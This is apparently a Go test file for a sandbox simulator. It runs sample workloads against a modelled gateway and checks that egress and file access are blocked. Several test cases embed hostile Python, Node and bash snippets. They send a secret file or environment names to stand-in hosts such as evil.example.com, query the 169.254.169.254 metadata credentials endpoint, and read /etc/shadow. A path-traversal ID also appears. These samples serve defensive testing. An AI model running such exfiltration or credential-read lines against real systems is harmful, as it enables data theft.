package simulator

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/enclave-run/enclave/internal/backend"
	"github.com/enclave-run/enclave/internal/sandbox"
	"github.com/enclave-run/enclave/internal/wire"
)

const testID backend.ID = "aaaaaaaaaaaaaaaaaaaa"

func testSpec() backend.Spec {
	return backend.Spec{Image: "sha256:0", Limits: backend.Limits{MilliCPU: 1000, CPU: 50 * time.Millisecond, Memory: 64 << 20, Pids: 64, Disk: 1 << 20}}
}

// A core is the other side of a modelled sandbox. Its gateway resolves allowed
// names, refuses the rest and records what it saw.
type core struct {
	t       *testing.T
	b       *Backend
	client  *wire.Client
	packets net.Conn
	seen    chan string // closed with the packets
}

func start(t *testing.T, allowed ...string) *core {
	t.Helper()
	ctx := t.Context()
	b := New()
	opened, err := sandbox.Open(ctx, b, testID, testSpec())
	if err != nil {
		t.Fatal(err)
	}
	c := &core{t: t, b: b, client: opened.Guest, packets: opened.Packets, seen: make(chan string, 1000)}
	t.Cleanup(func() {
		if err := b.Destroy(context.Background(), testID); err != nil {
			t.Error(err)
		}
		opened.Close()
	})
	go c.gateway(allowed)
	return c
}

// gateway answers packets as the real one does, but judges by a list.
func (c *core) gateway(allowed []string) {
	defer close(c.seen)
	names := map[netip.Addr]string{}
	r, w := wire.NewPacketReader(c.packets), wire.NewPacketWriter(c.packets)
	for {
		b, err := r.Next()
		if err != nil {
			if err == io.EOF {
				c.seen <- "mark"
			}
			return
		}
		p, ok := parsePacket(b)
		if !ok {
			c.seen <- "malformed"
			continue
		}
		back := packet{proto: p.proto, src: p.dst, dst: p.src}
		switch {
		case p.proto == protoUDP && p.dst.String() == resolver+":53":
			name := readName(p.payload[12:])
			qtype := binary.BigEndian.Uint16(p.payload[len(p.payload)-4:])
			c.seen <- fmt.Sprintf("dns %s %d", name, qtype)
			back.payload = append([]byte{}, p.payload...)
			back.payload[2] |= 0x80
			if !contains(allowed, name) {
				back.payload[3] |= 3
			} else if qtype == typeA {
				a := netip.AddrFrom4([4]byte{198, 18, 0, byte(10 + len(names))})
				names[a] = name
				back.payload[7] = 1
				back.payload = append(back.payload, 0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 1, 0, 4)
				back.payload = append(back.payload, a.AsSlice()...)
			}
		case p.proto == protoUDP:
			c.seen <- "udp " + p.dst.String()
			continue
		case p.flags == flagSYN:
			to := p.dst.String()
			if n := names[p.dst.Addr()]; n != "" {
				to = fmt.Sprintf("%s:%d", n, p.dst.Port())
			}
			c.seen <- "tcp " + to
			back.ack, back.flags = p.seq+1, flagRST|flagACK
			if contains(allowed, to) || names[p.dst.Addr()] != "" {
				back.flags = flagSYN | flagACK
				back.seq = 1000
			}
		case len(p.payload) > 0:
			c.seen <- "data " + strings.SplitN(string(p.payload), "\r\n", 2)[0]
			back.seq, back.ack, back.flags, back.payload = p.ack, p.seq+uint32(len(p.payload)), flagACK, []byte("HTTP/1.1 200 OK\r\n\r\n")
		default:
			continue
		}
		_ = w.Write(back.bytes()) // who has gone may have left packets behind
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func readName(b []byte) string {
	var labels []string
	for len(b) > 0 && b[0] != 0 {
		labels = append(labels, string(b[1:1+b[0]]))
		b = b[1+b[0]:]
	}
	return strings.Join(labels, ".")
}

// outcome is what a process was seen to do.
type outcome struct {
	Stdout, Stderr, Result string
	Code                   int
	Cut                    bool // the stream ended before the exit
}

func (c *core) run(r wire.StartRequest) outcome {
	c.t.Helper()
	p, err := c.client.Start(c.t.Context(), r)
	if err != nil {
		c.t.Fatal(err)
	}
	defer p.Close()
	var o outcome
	for {
		e, err := p.Next()
		if err == io.EOF {
			return o
		}
		if err != nil {
			o.Cut = true
			return o
		}
		switch e.Kind {
		case wire.Stdout:
			o.Stdout += string(e.Data)
		case wire.Stderr:
			o.Stderr += string(e.Data)
		case wire.Result:
			o.Result = string(e.Data)
		case wire.Exited:
			o.Code = e.Code
		}
	}
}

// finish shuts the guest down and returns what its gateway saw.
func (c *core) finish() []string {
	c.t.Helper()
	if err := c.client.Shutdown(c.t.Context()); err != nil {
		c.t.Fatal(err)
	}
	var all []string
	for s := range c.seen {
		all = append(all, s)
	}
	return all
}

func (c *core) exit() backend.Exit {
	c.t.Helper()
	e, err := c.b.Wait(c.t.Context(), testID)
	if err != nil {
		c.t.Fatal(err)
	}
	if !strings.Contains(e.Evidence, Evidence) {
		c.t.Errorf("the evidence %q does not say that it is %s", e.Evidence, Evidence)
	}
	return e
}

// TestWorkloads models code and compares what it was seen to do. The network
// has one rule: allowed.example and 203.0.113.9:80 may be reached.
func TestWorkloads(t *testing.T) {
	for name, tc := range map[string]struct {
		language, code string
		files          map[string]string
		want           outcome
		seen           []string
	}{
		"nothing is known of other code": {code: "import antigravity\nantigravity.fly()\n"},
		"the demo's clean code": {
			code: "total = sum(i * i for i in range(10))\nenclave.result({\"answer\": total})\n",
			want: outcome{Result: `{"answer":285}`},
		},
		"the demo's exfiltration": {
			code:  "import requests\nsecret = open(\"/work/secret\").read()\nprint('mark', flush=True)\nrequests.get(\"http://evil.example.com/exfil?data=\" + secret)\n",
			files: map[string]string{"secret": "abc"},
			want:  outcome{Stdout: "mark\n", Stderr: "Traceback (most recent call last):\n  File \"/run/enclave/main.py\", line 4, in <module>\nrequests.exceptions.ConnectionError: [Errno -2] Name or service not known\n", Code: 1},
			seen:  []string{"dns evil.example.com 1", "dns evil.example.com 28"},
		},
		"the same with the secret missing never dials": {
			code: "import requests\nsecret = open(\"/work/secret\").read()\nrequests.get(\"http://evil.example.com/exfil?data=\" + secret)\n",
			want: outcome{Stderr: "Traceback (most recent call last):\n  File \"/run/enclave/main.py\", line 2, in <module>\nFileNotFoundError: [Errno 2] No such file or directory: '/work/secret'\n", Code: 1},
		},
		"what is allowed is sent": {
			code:  "import requests\nsecret = open(\"/work/secret\").read()\nrequests.get(\"http://allowed.example/exfil?data=\" + secret)\n",
			files: map[string]string{"secret": "abc"},
			seen:  []string{"dns allowed.example 1", "dns allowed.example 28", "tcp allowed.example:80", "data GET /exfil?data=abc HTTP/1.1"},
		},
		"the demo's metadata read": {
			code: "import urllib.request\nprint(\"mark\", flush=True)\nprint(urllib.request.urlopen(\"http://169.254.169.254/latest/\").read())\n",
			want: outcome{Stdout: "mark\n", Stderr: "Traceback (most recent call last):\n  File \"/run/enclave/main.py\", line 3, in <module>\nurllib.error.URLError: <urlopen error [Errno 111] Connection refused>\n", Code: 1},
			seen: []string{"tcp 169.254.169.254:80"},
		},
		"the demo's shadow read": {
			code: "try:\n    print(open(\"/etc/shadow\").read())\nexcept OSError as e:\n    print(\"refused\", type(e).__name__)\ntry:\n    print(open(\"/host/canary\").read())\nexcept OSError as e:\n    print(\"refused\", type(e).__name__)\n",
			want: outcome{Stdout: "refused PermissionError\nrefused FileNotFoundError\n"},
		},
		"a parity workload": {
			code: `import os, urllib.request
def attempt(url):
    try:
        urllib.request.urlopen(url, timeout=5)
    except Exception as e:
        print("denied:", e)
attempt("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
attempt("http://exfil.attacker.example/exfil?dump=" + ",".join(sorted(os.environ)))
enclave.result({"egressAttempted": True})
`,
			want: outcome{Stdout: "denied: <urlopen error [Errno 111] Connection refused>\ndenied: <urlopen error [Errno -2] Name or service not known>\n", Result: `{"egressAttempted":true}`},
			seen: []string{"tcp 169.254.169.254:80", "dns exfil.attacker.example 1", "dns exfil.attacker.example 28"},
		},
		"of forks that end, their sum is not known": {
			code: `import os
r, w = os.pipe()
pids = []
for i in range(50):
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    pids.append(pid)
done = 0
for pid in pids:
    done += os.waitpid(pid, 0)[1] == 0
enclave.result({"forks": done})
`,
		},
		"sockets":           {code: "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('8.8.8.8', 53))\nsocket.socket().connect_ex(('203.0.113.9', 80))\nsocket.socket().connect_ex(('203.0.113.9', 81))\nprint('on')\n", want: outcome{Stdout: "on\n"}, seen: []string{"udp 8.8.8.8:53", "tcp 203.0.113.9:80", "tcp 203.0.113.9:81"}},
		"IPv6":              {code: "import urllib.request\ntry:\n  urllib.request.urlopen('http://[2001:db8::1]:8080/')\nexcept: pass\n", seen: []string{"tcp [2001:db8::1]:8080"}},
		"exit":              {code: "import sys\nsys.exit(7)\nprint('never')\n", want: outcome{Code: 7}},
		"raise":             {code: "raise ValueError('boo')", want: outcome{Code: 1, Stderr: "Traceback (most recent call last):\n  File \"/run/enclave/main.py\", line 1, in <module>\nValueError: boo\n"}},
		"node":              {language: "node", code: "console.log('hi');\nfetch('http://evil.example.com/').catch(e => 0);\nenclave.result({answer: 42});\nprocess.exit(3)\n", want: outcome{Stdout: "hi\n", Result: `{"answer": 42}`, Code: 3}, seen: []string{"dns evil.example.com 1", "dns evil.example.com 28"}},
		"bash":              {language: "bash", code: "echo 'hi'\ncurl -s http://169.254.169.254/x\nenclave-result '{\"a\":1}'\nexit 4\n", want: outcome{Stdout: "hi\n", Stderr: "curl: connection refused\n", Result: `{"a":1}`, Code: 4}, seen: []string{"tcp 169.254.169.254:80"}},
		"formatted":         {code: "x = 3\nprint(x, 1.5, True, None, 'a' 'b', sep='-', end='!')\nprint(f'{x}')", want: outcome{Stdout: "3-1.5-True-None-ab!"}},
		"functions":         {code: "x = 1\ndef f(a, b='two'):\n    x = 9\n    print(a, b)\n    return a * 2\nif __name__ == '__main__':\n    print(f('one'))\n    enclave.result(x)\n", want: outcome{Stdout: "one two\n"}},
		"http.client":       {code: "import http.client\nc = http.client.HTTPSConnection('evil.example.com', timeout=3)\nc.request('GET', '/x')\n", want: failed(3, "socket.gaierror: [Errno -2] Name or service not known"), seen: []string{"dns evil.example.com 1", "dns evil.example.com 28"}},
		"a question":        {code: "import socket\ntry:\n    socket.getaddrinfo('evil.example.com', 443)\nexcept OSError: print('no')\n", want: outcome{Stdout: "no\n"}, seen: []string{"dns evil.example.com 1", "dns evil.example.com 28"}},
		"a refused connect": {code: "import socket\nsocket.create_connection(('203.0.113.9', 22), timeout=1)\n", want: failed(2, "ConnectionRefusedError: [Errno 111] Connection refused"), seen: []string{"tcp 203.0.113.9:22"}},
		"a URL with a known start": {
			code: "import requests as r\nbase = 'http://evil.example.com/'\nfor q in ('a', 'b'):\n    try:\n        r.post(base + q, json={'a': 1})\n    except Exception as e:\n        print(q, type(e).__name__)\nr.get(f'http://evil.example.com/{secret()}')\n",
			want: outcome{Stdout: "a ConnectionError\nb ConnectionError\n", Code: 1, Stderr: failed(8, "requests.exceptions.ConnectionError: [Errno -2] Name or service not known").Stderr},
			seen: []string{"dns evil.example.com 1", "dns evil.example.com 28", "dns evil.example.com 1", "dns evil.example.com 28", "dns evil.example.com 1", "dns evil.example.com 28"},
		},
		"an unknown host is not tried":   {code: "import requests\nrequests.get('http://' + host())\nrequests.get(f'http://{host()}/x')\nrequests.get('http://evil.example.com' + rest())\n"},
		"a command":                      {code: "import subprocess\nsubprocess.run(['curl', '-s', 'http://169.254.169.254/x'])\nimport os\nos.system('exit 3')\nprint('on')\n", want: outcome{Stdout: "on\n", Stderr: "curl: connection refused\n"}, seen: []string{"tcp 169.254.169.254:80"}},
		"stderr":                         {code: "import sys; sys.stderr.write('a\\n'); print('b', file=sys.stderr); sys.exit('c')", want: outcome{Stderr: "a\nb\nc\n", Code: 1}},
		"escapes":                        {code: `print('\0|\x41\101|\u00e9|\'|\d|\\|\N{BULLET}', end='')` + "\n" + `print('\0|\x41\101|\u00e9|\'|\d|\\', end='')`, want: outcome{Stdout: "\x00|AA|é|'|\\d|\\"}},
		"SystemExit":                     {code: "raise SystemExit(4)", want: outcome{Code: 4}},
		"finally":                        {code: "try:\n    raise KeyError('k')\nexcept KeyError as e:\n    raise\nelse:\n    print('else')\nfinally:\n    print('finally')\n", want: outcome{Stdout: "finally\n", Stderr: failed(2, "KeyError: k").Stderr, Code: 1}},
		"no syntax":                      {code: "print('a'\nprint('b')\nx = (", want: failed(1, "SyntaxError: invalid syntax")},
		"a loop's output":                {code: "import sys\nfor i in range(3):\n    print('out', i, flush=True)\n    print('err', i, file=sys.stderr)\nprint('end', end='')\n", want: outcome{Stdout: "out 0\nout 1\nout 2\nend", Stderr: "err 0\nerr 1\nerr 2\n"}},
		"what a loop counts":             {code: "n = 0\nfor i in range(10):\n    n += i\nenclave.result(n)\n"},
		"what a list holds":              {code: "x = []\nfor i in range(5000):\n    x.append(i)\nenclave.result(x)\nenclave.result({'sum': sum(range(10))})\n", want: outcome{Result: `{"sum":45}`}},
		"an if that is not known":        {code: "a = 1\nif f():\n    a = 2\nenclave.result(a)\nenclave.result('no')\n", want: outcome{Result: `"no"`}},
		"a loop that may be left":        {code: "while True:\n    line = read()\n    if not line:\n        break\nprint('on')\n", want: outcome{Stdout: "on\n"}},
		"a result that is no JSON":       {code: "enclave.result(b'x')\nenclave.result(x)\n"},
		"a result that is too large":     {code: "try:\n    enclave.result('x' * 2000000)\nexcept ValueError as e:\n    print(e)\n", want: outcome{Stdout: "the result is larger than 1048576 bytes\n"}},
		"a file":                         {code: "with open('/tmp/a', 'w') as f:\n    f.write('abc')\nprint(open('/tmp/a').read())\nopen('/etc/x', 'w')\n", want: outcome{Stdout: "abc\n", Stderr: failed(4, "OSError: [Errno 30] Read-only file system: '/etc/x'").Stderr, Code: 1}},
		"within the limits":              {code: "import os\nfor i in range(24):\n    pid = os.fork()\n    if pid == 0:\n        os._exit(0)\nx = []\nfor i in range(32):\n    x.append(b'x' * 1000000)\nf = open('/work/small', 'wb')\nfor i in range(12):\n    f.write(b'x' * 65536)\n"},
		"more than 1,000 actions":        {code: "for i in range(2000):\n    print('', end='')\nprint('never')\n", want: outcome{Stderr: "modelled: the code is more than can be modelled\n", Code: 1}},
		"more than 10,000 lines":         {code: "print('never')\n" + strings.Repeat("\n", 10_000), want: outcome{Stderr: "modelled: the code is more than can be modelled\n", Code: 1}},
		"more than 10,000 lines of node": {language: "node", code: strings.Repeat("\n", 10_000) + "console.log('never')", want: outcome{Stderr: "modelled: the code is more than can be modelled\n", Code: 1}},
		"a string is no code":            {code: "print('x=1 + 2, (3); sys.exit(4) # \\'a\\' + b', 'lambda: os.fork()')\nimport os\nos.open('/work/x', os.O_CREAT)\nenclave.result(['=(1)', '2 * 3', ('a')])\n", want: outcome{Stdout: "x=1 + 2, (3); sys.exit(4) # 'a' + b lambda: os.fork()\n", Result: `["=(1)","2 * 3","a"]`}},
		"more than two numbers":          {code: "print(2 * 3 + 4)\nprint(1 << 2 + 3)\nprint(2 ** 3)\nprint('a' + 'b' * 2)\nprint('a' 'b' + 'c')\n", want: outcome{Stdout: "8\nabc\n"}},
		"first result wins":              {code: "enclave.result(1)\ntry:\n    enclave.result(2)\nexcept Exception as e:\n    print(e)\n", want: outcome{Result: "1", Stdout: "the result was given already\n"}},
	} {
		t.Run(name, func(t *testing.T) {
			c := start(t, "allowed.example", "203.0.113.9:80")
			for n, content := range tc.files {
				if err := c.client.WriteFile(t.Context(), n, 0o644, strings.NewReader(content)); err != nil {
					t.Fatal(err)
				}
			}
			if tc.language == "" {
				tc.language = "python"
			}
			got := c.run(wire.StartRequest{Language: tc.language, Code: tc.code})
			if d := cmp.Diff(tc.want, got); d != "" {
				t.Errorf("outcome (-want +got):\n%s", d)
			}
			if d := cmp.Diff(append(tc.seen, "mark"), c.finish()); d != "" {
				t.Errorf("packets (-want +got):\n%s", d)
			}
			if e := c.exit(); e.Cause != backend.Exited || e.Code != 0 {
				t.Errorf("the guest ended with %+v", e)
			}
		})
	}
}

// failed is the outcome of an exception that is not caught.
func failed(line int, what string) outcome {
	return outcome{Stderr: fmt.Sprintf("Traceback (most recent call last):\n  File \"/run/enclave/main.py\", line %d, in <module>\n%s\n", line, what), Code: 1}
}

func TestNothingRemainsAfterDestroy(t *testing.T) {
	before := descriptors(t)
	b := New()
	for i := range 20 {
		id := backend.ID(fmt.Sprintf("%020d", i))
		if i%2 == 0 {
			s, err := sandbox.Open(t.Context(), b, id, testSpec())
			if err != nil {
				t.Fatal(err)
			}
			p, err := s.Guest.Start(t.Context(), wire.StartRequest{Language: "bash", Code: "sleep infinity"})
			if err != nil {
				t.Fatal(err)
			}
			defer s.Close()
			defer p.Close()
			if err := b.Destroy(t.Context(), id); err != nil {
				t.Fatal(err)
			}
			if _, err := p.Next(); err != nil {
				t.Fatal(err) // Started
			}
			if _, err := p.Next(); err == nil || err == io.EOF {
				t.Errorf("a process of a destroyed sandbox ended in order: %v", err)
			}
			s.Close()
		} else { // before anybody hears its guest
			if _, err := b.Listen(t.Context(), id); err != nil {
				t.Fatal(err)
			}
			if err := b.Start(t.Context(), id, testSpec()); err != nil {
				t.Fatal(err)
			}
			if err := b.Destroy(t.Context(), id); err != nil {
				t.Fatal(err)
			}
		}
		if _, err := b.Wait(t.Context(), id); !errors.Is(err, backend.ErrNotFound) {
			t.Errorf("Wait after Destroy: %v", err)
		}
	}
	if ids, err := b.List(t.Context()); err != nil || len(ids) != 0 {
		t.Errorf("List: %v, %v", ids, err)
	}
	if after := descriptors(t); after > before {
		t.Errorf("%d descriptors before, %d after", before, after)
	}
}

// descriptors counts the sockets of this process.
func descriptors(t *testing.T) int {
	t.Helper()
	fds, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, fd := range fds {
		if to, err := os.Readlink("/proc/self/fd/" + fd.Name()); err == nil && strings.HasPrefix(to, "socket:") {
			n++
		}
	}
	return n
}

func TestConnectionsCanBeHandedOver(t *testing.T) {
	c := start(t)
	f, ok := c.packets.(interface{ File() (*os.File, error) })
	if !ok {
		t.Fatalf("%T has no descriptor", c.packets)
	}
	file, err := f.File()
	if err != nil {
		t.Fatal(err)
	}
	file.Close()
	if h, err := c.client.Hello(t.Context()); err != nil || !h.Confined {
		t.Errorf("hello: %+v, %v", h, err)
	}
}

func TestHostileIDsAndSpecsAreRefused(t *testing.T) {
	b := New()
	for _, id := range []backend.ID{"", "short", "../../../../etc/passw", "AAAAAAAAAAAAAAAAAAAA", "aaaaaaaaaaaaaaaaaaa\x00", "aaaaaaaaaaaaaaaaaaaaa"} {
		if _, err := b.Listen(t.Context(), id); err == nil {
			t.Errorf("listens for %q", id)
		}
		if err := b.Start(t.Context(), id, testSpec()); err == nil {
			t.Errorf("starts %q", id)
		}
	}
	s := testSpec()
	s.Limits.Pids = 0
	if err := b.Start(t.Context(), testID, s); err == nil {
		t.Error("starts without a limit")
	}
	if ids, _ := b.List(t.Context()); len(ids) != 0 {
		t.Errorf("what was refused is listed: %v", ids)
	}
}
